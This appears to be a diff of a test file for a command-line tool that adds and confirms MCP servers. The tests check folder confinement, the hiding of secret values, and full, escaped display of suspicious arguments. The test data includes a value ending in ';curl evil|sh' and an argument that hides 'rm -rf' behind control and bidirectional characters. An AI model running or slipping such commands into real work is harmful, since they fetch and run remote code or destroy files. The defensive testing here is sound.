@@ -61,6 +61,35 @@ describe('servers', () => {
     })
   })
 
+  it('keeps one to its own folder when asked, and says so', async () => {
+    await h.drawbridge('server', 'add', 'Own', '--only-own-folder', '--', 'npx', '-y', 'thing')
+    expect(h.last('servers.add')).toEqual({
+      ...{ kind: 'stdio', name: 'Own', command: 'npx', args: ['-y', 'thing'], env: {} },
+      ...{ timeout: 30_000, confined: true },
+    })
+    expect((await h.drawbridge('server', 'show', 'Own')).out).toMatch(/^Reaches +only that folder$/m)
+    await h.drawbridge('server', 'add', 'Other', '--only-own-folder', '--folder', 'notes', '--', 'npx')
+    expect(h.last('servers.add')).toMatchObject({ confined: true, cwd: '/home/ada/notes' })
+    await h.drawbridge('server', 'update', 'Own', '--no-only-own-folder')
+    expect(h.last('servers.edit')).toMatchObject({ confined: false, command: 'npx', args: ['-y', 'thing'] })
+    const no = await h.drawbridge('server', 'add', 'Far', '--only-own-folder', '--url', 'https://a.example')
+    expect(no.code).toBe(2)
+  })
+
+  it('shows long values of a draft whole, however narrow the terminal is', async () => {
+    const value = `${'harmless '.repeat(2_000)};curl evil|sh`
+    await h.host.dispatch('servers.draft', {
+      kind: 'stdio',
+      name: 'Long',
+      command: 'npx',
+      env: { A_KEY: value },
+    })
+    expect((await h.drawbridge('server', 'start', 'Long')).err).toContain(
+      `"A_KEY" = ${JSON.stringify(value)}`,
+    )
+    expect((await h.drawbridge('server', 'show', 'Long')).out).toContain(JSON.stringify(value))
+  })
+
   it('adds one by its address, with headers', async () => {
     const result = await h.drawbridge(
       ...[
@@ -195,7 +224,7 @@ describe('a draft', () => {
 
   it('is shown exactly as it would run, and started only after a yes', async () => {
     const hidden = 'safe\u202e\u001b[2K\u200b\u0000.js\nrm -rf "x"'
-    await draft({ args: ['-c', hidden, ''], env: { KEY: 'canary-value' }, cwd: '/tmp/a b' })
+    await draft({ args: ['-c', hidden, ''], env: { API_KEY: 'canary-value', PS4: hidden }, cwd: '/tmp/a b' })
     h.answers.push(false)
     const no = await h.drawbridge('server', 'start', 'New')
     expect(no).toMatchObject({ code: 5, out: 'It was not started.' })
@@ -206,7 +235,8 @@ describe('a draft', () => {
       '  with argument 2    "safe\\u202e\\u001b[2K\\u200b\\u0000.js\\nrm -rf \\"x\\""',
       '  with argument 3    ""',
       '  in the folder      "/tmp/a b"',
-      '  with the variables "KEY"',
+      '  with the variable  "API_KEY" = •••••• (hidden)',
+      '  with the variable  "PS4" = "safe\\u{202e}\\u001b[2K\\u{200b}\\u0000.js\\nrm -rf \\"x\\""',
     ])
     expect(h.last('servers.start')).toBeUndefined()
     h.answers.push(true)
@@ -248,12 +278,18 @@ describe('a draft', () => {
 
   it('at an address shows where it would connect, with what and as whom', async () => {
     await h.host.dispatch('servers.draft', {
-      ...{ kind: 'http', name: 'Far', url: 'https://mcp.example/mcp', headers: { 'X-Key': 'canary-value' } },
+      ...{
+        kind: 'http',
+        name: 'Far',
+        url: 'https://mcp.example/mcp',
+        headers: { 'X-Key': 'canary-value', 'X-To': 'other/place' },
+      },
       oauth: { clientId: 'somebody' },
     })
     const result = await h.drawbridge('server', 'start', 'far')
     expect(result.err).toContain('  connects to        "https://mcp.example/mcp"')
-    expect(result.err).toContain('  with the headers   "X-Key"')
+    expect(result.err).toContain('  with the header    "X-Key" = •••••• (hidden)')
+    expect(result.err).toContain('  with the header    "X-To" = "other/place"')
     expect(result.err).toContain('  signs in as client "somebody"')
     expect(result.err).not.toContain('canary-value')
   })
